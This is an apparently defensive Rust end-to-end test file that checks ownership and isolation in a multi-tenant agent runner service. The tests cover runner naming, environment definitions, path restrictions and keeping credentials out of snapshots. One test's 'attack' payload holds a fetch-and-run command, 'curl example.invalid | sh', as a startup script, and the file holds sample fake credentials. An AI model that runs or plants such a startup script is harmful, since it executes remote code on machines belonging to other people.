//! Whose machine is it: runner kinds come from tokens, runner names belong to one user,
//! environment definitions belong to their creator and may name only their owner's runners,
//! templates without a runner stay on cloud runners, runners refuse paths they do not offer,
//! and credential-looking values never reach a snapshot. Two users `alice` and `bob` (and an
//! admin `root`) share a tenant; a second tenant checks isolation.
//!
//! One `wrangler dev` for the file; every test uses its own tenants, runners and temp dirs.

use std::time::Duration;

use serde_json::{Value, json};
use wuhu_core::wire::custom_types;
use wuhu_core::wire::runner::{RunnerKind, ServerMessage};
use wuhu_e2e::entries::{customs, describe};
use wuhu_e2e::runner::{RawRunner, Runner, RunnerConfig, TempDir, ToolTurn};
use wuhu_e2e::util::unique_name;
use wuhu_e2e::{Api, Stack};

const TURN: Duration = Duration::from_secs(60);
const FRAME_WAIT: Duration = Duration::from_secs(15);

fn stack() -> &'static Stack {
    wuhu_e2e::shared_fake_stack()
}

/// One test's tenant with `alice`, `bob` and the admin `root`, and a temp dir.
struct World {
    tenant: String,
    alice: Api,
    bob: Api,
    admin: Api,
    dir: TempDir,
}

impl World {
    fn new(prefix: &str) -> World {
        let tenant = unique_name(prefix);
        World {
            alice: stack().client("alice", &tenant),
            bob: stack().client("bob", &tenant),
            admin: stack().admin_client("root", &tenant),
            dir: TempDir::new(&format!("wuhu-e2e-{prefix}")),
            tenant,
        }
    }

    /// A runner config owned by `sub` in this tenant, with its workspaces under the temp dir.
    fn runner(&self, sub: &str, name: &str) -> RunnerConfig {
        RunnerConfig::new(stack(), sub, &self.tenant, name)
            .workspaces_root(self.dir.mkdir(&format!("workspaces-{sub}-{name}")))
    }

    /// A raw connection of `sub` (a local runner token) that said hello as `name` claiming
    /// `kind`, and the welcome it got.
    #[track_caller]
    fn raw_runner(&self, sub: &str, name: &str, kind: RunnerKind) -> (RawRunner, ServerMessage) {
        let token = stack().runner_token(sub, &self.tenant);
        let mut raw = RawRunner::connect(&stack().base_url(), &token)
            .unwrap_or_else(|e| panic!("connect with a runner token: {e}"));
        raw.send_text(&RawRunner::hello_offering(
            name,
            kind,
            &[("api", "/srv/api")],
        ));
        let answer = raw.next_message(FRAME_WAIT);
        (raw, answer)
    }

    /// `GET /v1/runners` → `(owner, name)`'s entry.
    #[track_caller]
    fn listed_runner(&self, owner: &str, name: &str) -> Option<Value> {
        let response = self.alice.get("/v1/runners");
        assert_eq!(response.status, 200, "{response}");
        response.json()["runners"]
            .as_array()
            .unwrap_or_else(|| panic!("no runners array: {response}"))
            .iter()
            .find(|r| r["name"] == name && r["owner"] == owner)
            .cloned()
    }
}

#[track_caller]
fn define(api: &Api, body: Value) -> Value {
    let response = api.post("/v1/environments", &body);
    assert_eq!(response.status, 201, "define {body}: {response}");
    response.json()
}

#[track_caller]
fn request(api: &Api, session: &str, arguments: Value) -> wuhu_core::wire::ToolResult {
    let turn = ToolTurn::start(api, session, &[("request_environment", arguments)]);
    turn.finish(api, TURN).0.pop().expect("one result")
}

#[track_caller]
fn attached(api: &Api, session: &str) -> Vec<(String, String)> {
    api.session(session)
        .environments
        .iter()
        .map(|a| (a.name().to_string(), a.runner_owner.clone()))
        .collect()
}

#[test]
fn a_runner_token_without_the_cloud_claim_is_local_whatever_hello_says() {
    let _guard = stack().guard();
    let world = World::new("impostor");
    // Bob's raw connection says cloud; its token does not.
    let (raw, welcome) = world.raw_runner("bob", "bob-cloud", RunnerKind::Cloud);
    match &welcome {
        ServerMessage::Welcome { kind, notice, .. } => {
            assert_eq!(*kind, Some(RunnerKind::Local), "{welcome:?}");
            let notice = notice.as_deref().unwrap_or_default();
            assert!(
                notice.contains("runnerKind: cloud") && notice.contains("local"),
                "{welcome:?}"
            );
        }
        other => panic!("expected welcome, got {other:?}"),
    }
    // It would answer any attach instantly: if it were cloud, alice's template would land on it.
    let served = raw.serve_instantly("/srv/impostor");
    let listed = world.listed_runner("bob", "bob-cloud").expect("listed");
    assert_eq!(listed["kind"], "local", "{listed}");

    // The real runner binary prints the notice.
    let mut claimed = Runner::start(
        world
            .runner("bob", "bob-vm")
            .claimed_kind(RunnerKind::Cloud),
    );
    wuhu_e2e::wait_for(
        "the runner to print the server's notice",
        Duration::from_secs(10),
        || claimed.log().contains("server notice:").then_some(()),
    );
    assert!(
        claimed.log().contains("runnerKind: cloud"),
        "{}",
        claimed.log_tail(20)
    );
    assert_eq!(
        world.listed_runner("bob", "bob-vm").expect("listed")["kind"],
        "local"
    );

    let template = world.dir.mkdir("template");
    define(
        &world.alice,
        json!({"name": "web", "kind": "folder-template", "templatePath": template}),
    );
    let session = world.alice.create_fake_session().id;
    for arguments in [
        json!({"spec": "web"}),
        json!({"spec": "web", "preference": "cloud"}),
        json!({"spec": "api", "preference": "cloud"}),
        json!({"spec": "bob-cloud:api"}),
    ] {
        let result = request(&world.alice, &session, arguments.clone());
        assert!(
            result.is_error,
            "{arguments} reached bob's runner: {}",
            result.content
        );
    }
    assert_eq!(attached(&world.alice, &session), vec![]);

    // A runner whose token says cloud serves alice's template.
    let cloud = Runner::start(world.runner("ops", "cloud-1").kind(RunnerKind::Cloud));
    let result = request(&world.alice, &session, json!({"spec": "web"}));
    assert!(!result.is_error, "{}", result.content);
    assert_eq!(
        attached(&world.alice, &session),
        vec![("web".to_string(), "ops".to_string())]
    );
    assert_eq!(
        world.listed_runner("ops", "cloud-1").expect("listed")["kind"],
        "cloud"
    );
    drop(cloud);
    claimed.kill_hard();
    drop(served);
}

#[test]
fn another_user_cannot_take_a_runner_name_and_the_owner_keeps_serving() {
    let _guard = stack().guard();
    let world = World::new("squat");
    let api_dir = world.dir.mkdir("api");
    world.dir.write("api/marker.txt", "alice-marker-5c1d\n");
    let mac = Runner::start(world.runner("alice", "mac").env("api", &api_dir));
    let session = world.alice.create_fake_session().id;
    let result = request(&world.alice, &session, json!({"spec": "api"}));
    assert!(!result.is_error, "{}", result.content);

    // Bob connects as "mac": refused with a clear reason, in the frame and the close.
    let (mut raw, answer) = world.raw_runner("bob", "mac", RunnerKind::Local);
    match &answer {
        ServerMessage::Refused { code, message } => {
            assert_eq!(code, "name_taken", "{answer:?}");
            assert!(
                message.contains("\"alice\"") && message.contains("--name"),
                "{answer:?}"
            );
        }
        other => panic!("bob's runner named mac was not refused: {other:?}"),
    }
    let (code, reason) = raw
        .next_close(FRAME_WAIT)
        .expect("the hub closes the refused connection");
    assert_eq!(code, 1008, "{reason}");
    assert!(
        reason.starts_with("name_taken: runner name \"mac\""),
        "{reason}"
    );

    // The runner binary gives up (a permanent refusal) and says why.
    let mut squatter = Runner::spawn(world.runner("bob", "mac"));
    let status = squatter
        .wait_exit(Duration::from_secs(30))
        .unwrap_or_else(|| panic!("bob's runner kept trying:\n{}", squatter.log_tail(20)));
    assert_eq!(status.code(), Some(2), "{}", squatter.log_tail(20));
    assert!(
        squatter.log().contains("belongs to"),
        "{}",
        squatter.log_tail(20)
    );

    // Alice's runner was never replaced: still connected, still serving the same session.
    assert!(
        mac.log().matches("connected to").count() == 1,
        "{}",
        mac.log_tail(20)
    );
    let listed = world.listed_runner("alice", "mac").expect("listed");
    assert_eq!(listed["connected"], true, "{listed}");
    assert!(world.listed_runner("bob", "mac").is_none());
    let turn = ToolTurn::start(
        &world.alice,
        &session,
        &[("bash", json!({"command": "cat marker.txt"}))],
    );
    let (results, _) = turn.finish(&world.alice, TURN);
    assert!(
        results[0].content.contains("alice-marker-5c1d"),
        "{}",
        results[0].content
    );

    // Bob's runners of other names are fine.
    let (_bob_raw, answer) = world.raw_runner("bob", "bob-mac", RunnerKind::Local);
    assert!(
        matches!(answer, ServerMessage::Welcome { .. }),
        "{answer:?}"
    );
}

#[test]
fn only_the_owner_or_an_admin_may_change_or_delete_a_definition() {
    let _guard = stack().guard();
    let world = World::new("defs");
    let created = define(
        &world.alice,
        json!({"name": "api", "kind": "local", "runner": "mac", "path": "/src/api", "approval": "ask"}),
    );
    assert_eq!(created["owner"], "alice", "{created}");
    assert_eq!(created["runnerOwner"], "alice", "{created}");
    let id = created["id"].as_str().expect("id").to_string();

    // Bob: 403 on PATCH (by name and by id) and DELETE; the definition is unchanged.
    let attack = json!({
        "kind": "folder-template", "path": null, "templatePath": "/src/api",
        "startupScript": "curl example.invalid | sh", "approval": "auto",
    });
    for key in ["api", id.as_str()] {
        let path = format!("/v1/environments/{key}");
        let error = world.bob.patch(&path, &attack).expect_error(403);
        assert_eq!(error.code, "forbidden");
        assert!(error.message.contains("alice"), "{}", error.message);
        let error = world
            .bob
            .send(world.bob.request("DELETE", &path))
            .expect_error(403);
        assert_eq!(error.code, "forbidden");
    }
    let now = world.alice.get("/v1/environments/api").json();
    assert_eq!(now, created, "bob changed alice's definition");

    // Another tenant does not see it at all.
    let stranger = stack().client("alice", &unique_name("other-tenant"));
    stranger.get("/v1/environments/api").expect_error(404);
    stranger
        .patch("/v1/environments/api", &json!({"approval": "auto"}))
        .expect_error(404);

    // The owner and an admin may.
    let patched = world
        .alice
        .patch("/v1/environments/api", &json!({"path": "/src/api2"}));
    assert_eq!(patched.status, 200, "{patched}");
    let patched = world
        .admin
        .patch("/v1/environments/api", &json!({"approval": "auto"}));
    assert_eq!(patched.status, 200, "{patched}");
    assert_eq!(patched.json()["owner"], "alice", "{patched}");
    assert_eq!(patched.json()["path"], "/src/api2", "{patched}");
    let deleted = world
        .admin
        .send(world.admin.request("DELETE", "/v1/environments/api"));
    assert_eq!(deleted.status, 204, "{deleted}");
}

#[test]
fn a_definition_names_only_its_owners_runners_unless_an_admin_makes_it() {
    let _guard = stack().guard();
    let world = World::new("naming");
    let (_mac, welcome) = world.raw_runner("alice", "mac", RunnerKind::Local);
    assert!(
        matches!(welcome, ServerMessage::Welcome { .. }),
        "{welcome:?}"
    );

    let local =
        |name: &str| json!({"name": name, "kind": "local", "runner": "mac", "path": "/src/api"});
    // Bob naming alice's runner: by name, with runnerOwner, or patched in later.
    let error = world
        .bob
        .post("/v1/environments", &local("b1"))
        .expect_error(403);
    assert_eq!(error.code, "forbidden");
    assert!(error.message.contains("\"alice\""), "{}", error.message);
    let mut explicit = local("b2");
    explicit["runnerOwner"] = json!("alice");
    world
        .bob
        .post("/v1/environments", &explicit)
        .expect_error(403);
    let mut worktree = json!({"name": "b3", "kind": "worktree", "runner": "mac", "repoPath": "/r"});
    world
        .bob
        .post("/v1/environments", &worktree)
        .expect_error(403);
    worktree["runner"] = json!("bob-box");
    define(&world.bob, worktree);
    let error = world
        .bob
        .patch("/v1/environments/b3", &json!({"runner": "mac"}))
        .expect_error(403);
    assert_eq!(error.code, "forbidden");
    assert_eq!(
        world.bob.get("/v1/environments/b3").json()["runner"],
        "bob-box"
    );
    let listed: Vec<String> = world.alice.get("/v1/environments").json()["environments"]
        .as_array()
        .expect("array")
        .iter()
        .map(|d| d["name"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(listed, vec!["b3".to_string()]);

    // Alice may; an admin may name alice's runner in a definition of their own.
    let mine = define(&world.alice, local("a1"));
    assert_eq!(
        (&mine["runnerOwner"], &mine["runnerGrantedBy"]),
        (&json!("alice"), &Value::Null)
    );
    let granted = define(&world.admin, local("r1"));
    assert_eq!(
        (
            &granted["owner"],
            &granted["runnerOwner"],
            &granted["runnerGrantedBy"]
        ),
        (&json!("root"), &json!("alice"), &json!("root")),
        "{granted}"
    );
}

#[test]
fn a_folder_template_without_a_runner_never_lands_on_a_local_runner() {
    let _guard = stack().guard();
    let world = World::new("template");
    let template = world.dir.mkdir("template");
    world.dir.write("template/marker.txt", "template-marker\n");
    let _mac = Runner::start(world.runner("alice", "mac"));
    define(
        &world.alice,
        json!({"name": "web", "kind": "folder-template", "templatePath": template}),
    );
    let session = world.alice.create_fake_session().id;
    for preference in ["any", "local"] {
        let result = request(
            &world.alice,
            &session,
            json!({"spec": "web", "preference": preference}),
        );
        assert!(
            result.is_error && result.content.contains("cloud runner"),
            "preference {preference}: {}",
            result.content
        );
    }
    assert_eq!(attached(&world.alice, &session), vec![]);

    let _cloud = Runner::start(world.runner("ops", "cloud-1").kind(RunnerKind::Cloud));
    let result = request(&world.alice, &session, json!({"spec": "web"}));
    assert!(!result.is_error, "{}", result.content);
    let page = world.alice.session(&session);
    assert_eq!(page.environments.len(), 1);
    assert_eq!(page.environments[0].runner, "cloud-1");
}

#[test]
fn the_runner_refuses_attach_paths_outside_its_directories_and_names_the_flag() {
    let _guard = stack().guard();
    let world = World::new("paths");
    let offered = world.dir.mkdir("offered");
    let inside = world.dir.mkdir("offered/sub");
    let outside = world.dir.mkdir("elsewhere");
    let _mac = Runner::start(
        world
            .runner("alice", "mac")
            .env("offered", &offered)
            .allow_any_path(false),
    );
    define(
        &world.alice,
        json!({"name": "inside", "kind": "local", "runner": "mac", "path": inside}),
    );
    define(
        &world.alice,
        json!({"name": "outside", "kind": "local", "runner": "mac", "path": outside}),
    );
    define(
        &world.alice,
        json!({"name": "tpl", "kind": "folder-template", "runner": "mac", "templatePath": outside}),
    );
    let session = world.alice.create_fake_session().id;
    let ok = request(&world.alice, &session, json!({"spec": "inside"}));
    assert!(!ok.is_error, "{}", ok.content);
    for spec in ["outside", "tpl"] {
        let refused = request(&world.alice, &session, json!({"spec": spec}));
        assert!(
            refused.is_error
                && refused.content.contains("--allow-any-path")
                && refused.content.contains("path_not_allowed"),
            "{spec}: {}",
            refused.content
        );
    }
    assert_eq!(
        attached(&world.alice, &session),
        vec![("inside".to_string(), "alice".to_string())]
    );

    // With the flag, the same definitions attach.
    drop(_mac);
    let open = Runner::start(world.runner("alice", "mac").allow_any_path(true));
    let ok = request(&world.alice, &session, json!({"spec": "outside"}));
    assert!(!ok.is_error, "{}", ok.content);

    // The runner comes back without the flag: calls in the environment attached meanwhile
    // (whose root and cwd the server sends with each call) are refused unrun; the offered one
    // still runs.
    drop(open);
    let _strict = Runner::start(
        world
            .runner("alice", "mac")
            .env("offered", &offered)
            .allow_any_path(false),
    );
    let marker = outside.join("ran.txt");
    let turn = ToolTurn::start(
        &world.alice,
        &session,
        &[
            (
                "bash",
                json!({"command": format!("touch {}", marker.display()), "environment": "outside"}),
            ),
            ("bash", json!({"command": "pwd", "environment": "inside"})),
        ],
    );
    let (results, _) = turn.finish(&world.alice, TURN);
    assert!(
        results[0].is_error
            && results[0].content.contains("path_not_allowed")
            && results[0].content.contains("--allow-any-path"),
        "{}",
        results[0].content
    );
    assert!(!marker.exists(), "a refused call ran");
    assert!(
        !results[1].is_error && results[1].content.contains("offered/sub"),
        "{}",
        results[1].content
    );
}

#[test]
fn only_the_owner_or_an_admin_frees_a_runner_name() {
    let _guard = stack().guard();
    let world = World::new("free");
    let delete = |api: &Api, path: &str| api.send(api.request("DELETE", path));
    let mut mac = Runner::start(world.runner("alice", "mac"));
    let (_bob_raw, answer) = world.raw_runner("bob", "bob-mac", RunnerKind::Local);
    assert!(
        matches!(answer, ServerMessage::Welcome { .. }),
        "{answer:?}"
    );

    // Bob may not free alice's name: 403 JSON, and her runner keeps serving.
    let refused = delete(&world.bob, "/v1/runners/alice/mac");
    assert_eq!(refused.status, 403, "{refused}");
    assert_eq!(refused.json()["error"]["code"], "forbidden", "{refused}");
    assert_eq!(
        world.listed_runner("alice", "mac").expect("listed")["connected"],
        true
    );
    // Unknown names, and names of another tenant, are 404 JSON.
    for (api, path) in [
        (&world.alice, "/v1/runners/alice/nope"),
        (&world.alice, "/v1/runners/nobody/mac"),
        (&world.admin, "/v1/runners/alice/nope"),
    ] {
        let missing = delete(api, path);
        assert_eq!(missing.status, 404, "{path}: {missing}");
        assert_eq!(missing.json()["error"]["code"], "not_found", "{missing}");
    }
    let stranger = stack().client("alice", &unique_name("elsewhere"));
    let missing = delete(&stranger, "/v1/runners/alice/mac");
    assert_eq!(missing.status, 404, "{missing}");
    let wrong = world
        .alice
        .send(world.alice.request("GET", "/v1/runners/alice/mac"));
    assert_eq!(wrong.status, 405, "{wrong}");

    // Alice frees her own name: her connected runner is told why and stops for good.
    let freed = delete(&world.alice, "/v1/runners/alice/mac");
    assert_eq!(freed.status, 204, "{freed}");
    let status = mac
        .wait_exit(Duration::from_secs(30))
        .unwrap_or_else(|| panic!("the freed runner kept going:\n{}", mac.log_tail(20)));
    assert_eq!(status.code(), Some(2), "{}", mac.log_tail(20));
    assert!(
        mac.log().contains("was freed by \"alice\""),
        "{}",
        mac.log_tail(20)
    );
    assert!(world.listed_runner("alice", "mac").is_none());
    // The name is free: bob may take it now.
    let (_taken, answer) = world.raw_runner("bob", "mac", RunnerKind::Local);
    assert!(
        matches!(answer, ServerMessage::Welcome { .. }),
        "{answer:?}"
    );

    // An admin frees bob's name; the raw connection gets the refusal and the close reason.
    let (mut raw, answer) = world.raw_runner("bob", "bob-2", RunnerKind::Local);
    assert!(
        matches!(answer, ServerMessage::Welcome { .. }),
        "{answer:?}"
    );
    let freed = delete(&world.admin, "/v1/runners/bob/bob-2");
    assert_eq!(freed.status, 204, "{freed}");
    match raw.next_message(FRAME_WAIT) {
        ServerMessage::Refused { code, message } => {
            assert_eq!(code, "runner_removed", "{message}");
            assert!(message.contains("\"root\""), "{message}");
        }
        other => panic!("expected refused, got {other:?}"),
    }
    let (code, reason) = raw.next_close(FRAME_WAIT).expect("closed");
    assert_eq!(code, 1008, "{reason}");
    assert!(reason.starts_with("runner_removed: "), "{reason}");
    assert!(world.listed_runner("bob", "bob-2").is_none());
}

#[test]
fn credential_looking_values_never_reach_the_snapshot_even_via_extra_env_vars() {
    let _guard = stack().guard();
    let world = World::new("creds");
    let dir = world.dir.mkdir("project");
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlLTdhM2Y";
    let random = "Qm8Zt2Xw5Lr9Vk3Np7Hc1Bd6Gf4Js0Ay8Ue2Io4W";
    let credentials = [
        ("DATABASE_URL", "postgres://u:p4ss-9e1f@h/db"),
        ("BUILD_SIGNATURE", jwt),
        ("RELEASE_ID", random),
        ("PROXY", "http://proxy-user:pw-2b7c@proxy:3128"),
    ];
    let mut config = world
        .runner("alice", "mac")
        .var("PLAIN_SETTING", "plain-visible-8d2e");
    for (name, value) in credentials {
        config = config.var(name, value);
    }
    let _mac = Runner::start(config);
    let mut extra: Vec<&str> = credentials.iter().map(|(n, _)| *n).collect();
    extra.push("PLAIN_SETTING");
    define(
        &world.alice,
        json!({"name": "snap", "kind": "local", "runner": "mac", "path": dir, "extraEnvVars": extra}),
    );
    let session = world.alice.create_fake_session().id;
    let result = request(&world.alice, &session, json!({"spec": "snap"}));
    assert!(!result.is_error, "{}", result.content);

    let entries = world.alice.transcript(&session);
    let notice = customs(&entries, custom_types::ENVIRONMENT_ATTACHED)
        .into_iter()
        .next()
        .cloned()
        .unwrap_or_else(|| panic!("no attached notice:\n{}", describe(&entries)));
    let env = notice["snapshot"]["env"]
        .as_object()
        .unwrap_or_else(|| panic!("no snapshot.env: {notice}"));
    assert_eq!(
        env.get("PLAIN_SETTING"),
        Some(&json!("plain-visible-8d2e")),
        "{notice}"
    );
    for (name, _) in credentials {
        assert!(!env.contains_key(name), "{name} captured: {notice}");
    }
    let stored = world
        .alice
        .get(&format!("/v1/sessions/{session}?limit=1000"))
        .text();
    for (name, value) in credentials {
        assert!(
            !stored.contains(value),
            "{name}'s value is stored: {stored}"
        );
    }
}

#[test]
fn a_runner_cannot_rename_the_environment_it_attaches() {
    use wuhu_core::wire::runner::{
        AttachOutcome, AttachedEnvironment, EnvironmentKind, RunnerMessage, Snapshot, decode_frame,
        encode_frame,
    };
    let _guard = stack().guard();
    let world = World::new("rename");
    let (mut raw, welcome) = world.raw_runner("alice", "mac", RunnerKind::Local);
    assert!(
        matches!(welcome, ServerMessage::Welcome { .. }),
        "{welcome:?}"
    );
    // Answers every attach with an environment named "evil" instead of the requested name.
    let server = std::thread::spawn(move || {
        while let Some(text) = raw.try_next_text(Duration::from_secs(120)) {
            if let Ok(ServerMessage::Attach { id, .. }) = decode_frame::<ServerMessage>(&text) {
                let reply = RunnerMessage::AttachResult {
                    id,
                    outcome: AttachOutcome::Ok {
                        environment: AttachedEnvironment {
                            name: "evil".to_string(),
                            kind: EnvironmentKind::Local,
                            root: "/srv/api".to_string(),
                            os: "Linux".to_string(),
                            repo_path: None,
                            branch: None,
                            snapshot: Snapshot {
                                cwd: "/srv/api".to_string(),
                                env: Default::default(),
                                captured_at: 0,
                            },
                            agents_md: None,
                            agents_md_truncated: false,
                            agents_md_file: None,
                            cell: Default::default(),
                        },
                    },
                };
                raw.send_text(&encode_frame(&reply));
                return true;
            }
        }
        false
    });
    let session = world.alice.create_fake_session().id;
    let result = request(&world.alice, &session, json!({"spec": "api"}));
    assert!(!result.is_error, "{}", result.content);
    assert!(
        server.join().expect("runner thread"),
        "no attach reached the runner"
    );
    assert_eq!(
        attached(&world.alice, &session),
        vec![("api".to_string(), "alice".to_string())]
    );
}
